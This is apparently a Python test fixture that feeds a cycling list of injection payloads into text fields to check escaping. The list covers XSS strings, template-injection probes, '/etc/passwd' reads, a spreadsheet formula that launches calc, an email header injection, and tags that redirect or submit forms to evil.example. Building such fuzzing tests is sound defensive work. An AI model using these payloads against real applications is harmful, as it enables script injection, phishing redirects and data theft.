"""Texts that would do harm where they are taken for more than text.

Whatever of them becomes an element or an attribute bears the mark `xbad`, so that a parser finds
it; whatever runs sets `window.__x`.
"""

import itertools

from tests.security.filling import TextOf

RUN = "window.__x=1"
PAYLOADS = [
    f"<script xbad>{RUN}</script>",
    f'"><script xbad>{RUN}</script>',
    f"'><script xbad>{RUN}</script>",
    f"<img xbad src=x onerror={RUN}>",
    f'" xbad onmouseover="{RUN}" x="',
    f"' xbad onmouseover='{RUN}' x='",
    f" xbad autofocus onfocus={RUN} ",
    f"<svg xbad onload={RUN}>",
    f'"><svg xbad/onload={RUN}>',
    f"</title><script xbad>{RUN}</script>",
    f"</textarea><script xbad>{RUN}</script>",
    f"</script><script xbad>{RUN}</script>",
    f"</style><img xbad src onerror={RUN}>",
    f"--><img xbad src onerror={RUN}>",
    f"]]><img xbad src onerror={RUN}>",
    f"</text></svg><img xbad src onerror={RUN}>",
    f"</select><img xbad src onerror={RUN}>",
    f"<iframe xbad srcdoc='<script>{RUN}</script>'></iframe>",
    f"<a xbad href=javascript:{RUN}>a</a>",
    f"javascript:{RUN}",
    f"<body xbad onload={RUN}>",
    f"<details xbad open ontoggle={RUN}>",
    f"<math xbad><mi xlink:href=javascript:{RUN}>",
    "<base xbad href=//evil.example/>",
    "<meta xbad http-equiv=refresh content=0;url=//evil.example>",
    "<form xbad action=//evil.example><button>",
    "<object xbad data=x></object>",
    "<style xbad>*{display:none}</style>",
    "<link xbad rel=stylesheet href=//evil.example>",
    f"<img/xbad/src=x/onerror={RUN}>",
    f"<scr<script xbad>ipt>{RUN}</script>",
    f"&lt;img xbad src onerror={RUN}&gt;",
    f"&#60;script xbad&#62;{RUN}&#60;/script&#62;",
    "<x-bad xbad hx-get=/ hx-trigger=load>",
    "{{7*7}}{{ request.user.email }}{% now 'Y' %}{# note #}",
    "{% include 'base.html' %}${7*7}#{7*7}<%= 7*7 %>",
    '#read("/etc/passwd") #eval("1+1") $ x $ *b* _i_ `c` @ref <label>',
    '#image("/etc/passwd") #link("https://evil.example")[x] // gone /* gone */ \\',
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|x",
    "Title\r\nBcc: victim@evil.example\r\n\r\nbody",
    "\u202egpj.exe\u202c \u2066left\u2069 \ufeff Zo\u0308e\u0301 👩‍👩‍👧",
]


def payloads() -> TextOf:
    """Give a function that takes the next payloads in turn, as many as fit."""
    turn = itertools.cycle(PAYLOADS)

    def text_of(longest: int | None) -> str:
        room = longest or 3000
        text = next(turn)[:room]
        for more in turn:
            if len(text) + len(more) + 1 > room:
                return text
            text = f"{text} {more}"
        raise AssertionError("a cycle has no end")

    return text_of
